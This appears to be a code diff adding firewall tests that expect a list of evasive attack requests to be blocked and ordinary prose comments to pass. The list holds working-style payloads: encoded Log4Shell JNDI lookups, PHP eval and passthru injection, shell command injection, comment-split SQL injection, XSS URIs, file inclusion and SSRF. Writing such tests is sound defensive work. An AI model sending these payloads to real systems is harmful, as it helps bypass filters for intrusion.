@@ -85,6 +85,37 @@ TEST_F(ShippedRulesTest, BlocksOneClearAttackPerFamily) {
   }
 }
 
+// Evasions and variants of the attack classes, written for this test (not taken from the
+// CRS regression suite the rules are measured against).
+TEST_F(ShippedRulesTest, BlocksVariantsOfTheAttackClasses) {
+  const char* form = "application/x-www-form-urlencoded";
+  const std::vector<std::pair<const char*, std::string>> attacks = {
+      {"lfi: /proc/net socket table", get("/view?file=/proc/net/arp")},
+      {"log4shell: brace as a \\u escape",
+       get("/?q=%24%5Cu007Bjndi%3Armi%3A%2F%2Fx.example%2Fa%7D")},
+      {"php: comment before the argument list", post("/c", form, "x=phpinfo%2F%2A%2A%2F%28%29")},
+      {"php: function name in hex escapes",
+       post("/c", form, "x=%22%5Cx65val%22%28%24_POST%5Bc%5D%29")},
+      {"php: command function as a word", post("/c", form, "x=passthru+%3D+%28%27id%27%29")},
+      {"unix rce: background operator glued", get("/ping?host=8.8.8.8%26whoami")},
+      {"unix rce: empty substitution in a word", get("/ping?host=who%24%28%29ami")},
+      {"unix rce: blank after the separator", get("/ping?host=8.8.8.8%3B+cat+%2Fetc%2Fhostname")},
+      {"unix rce: command line as user agent", get("/", "User-Agent: uname -a\r\n")},
+      {"windows rce: WMI alias", get("/run?c=%3Bgwmi+-class+Win32_Service")},
+      {"sqli: stacked statement as the value", get("/item?id=%3Bshutdown")},
+      {"sqli: boolean glued between quotes", get("/login?u=bob%27or%27x")},
+      {"sqli: comment inside keywords", get("/q?s=1+UN%2F%2A%2A%2FION+SEL%2F%2A%2A%2FECT+1")},
+      {"sqli: escaped quote", get("/q?s=%5C%27+or+1%3D1")},
+      {"xss: javascript: URI with an escape", get("/r?to=javascript:%5Cu0061lert(1)")},
+      {"xss: data: URI carrying markup", get("/r?to=data:,%3Cimg+src%3Dx%3E")},
+      {"ssrf: loopback wildcard domain", get("/fetch?url=http://app.lvh.me:8080/")},
+  };
+  for (const auto& [name, request] : attacks) {
+    const auto v = run(request);
+    EXPECT_EQ(v.decision, WafDecision::block) << name;
+  }
+}
+
 TEST_F(ShippedRulesTest, ScannerUserAgentIsBlocked) {
   EXPECT_EQ(run(get("/", "User-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n")).decision,
             WafDecision::block);
@@ -113,6 +144,15 @@ TEST_F(ShippedRulesTest, PassesOrdinaryTraffic) {
       get("/search?q=salt+and+pepper+%28ground%29&order=newest"),
       get("/wiki/Function_(mathematics)?oldid=12"),
       post("/api/v1/upload", "application/octet-stream", "\x01\x02binary"),
+      // prose: a semicolon before words that are also command names, quotes and dashes,
+      // SQL words and conditions as people write them
+      post("/comment", "application/x-www-form-urlencoded",
+           "text=Great+product%3B+find+more+at+our+store%3B+time+to+go+home%3B+more+or+less"),
+      post("/comment", "application/x-www-form-urlencoded",
+           "text=%22and+when+the+kids+are+older&quote=Mark+said%3A+%22it%27s+fine%22+--+really"),
+      get("/search?q=please+delete+from+my+account+the+old+address"),
+      get("/search?q=if+%282+%3E+1%29+then+what"),
+      get("/search?q=top+10+laptops+%7C+reviews%3B+w%2Fo+fan"),
   };
   for (const std::string& request : requests) {
     const auto v = run(request);
